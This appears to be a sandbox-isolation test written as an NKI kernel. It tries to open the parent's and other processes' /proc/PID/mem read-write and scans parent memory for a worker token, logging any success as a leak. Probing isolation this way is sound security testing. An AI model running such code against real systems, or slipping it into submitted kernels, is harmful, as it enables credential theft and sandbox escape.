"""Attack: open /proc/PPID/mem (and the victims') read-write, and scan the
parent's memory for the worker token."""
# @@PRELUDE@@


@nki.jit
def kernel(x):
    targets = outside_pids()
    for pid in targets:
        try:
            fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
            os.close(fd)
            R.leak("opened /proc/%d/mem read-write" % pid)
        except OSError as ex:
            R.note("/proc/%d/mem rw %s" % (pid, oserr(ex)))
    if targets:
        s, note = scan_memory(targets[0])
        if s:
            R.leak(note + ": " + s)
        else:
            R.note(note)
    R.finish()
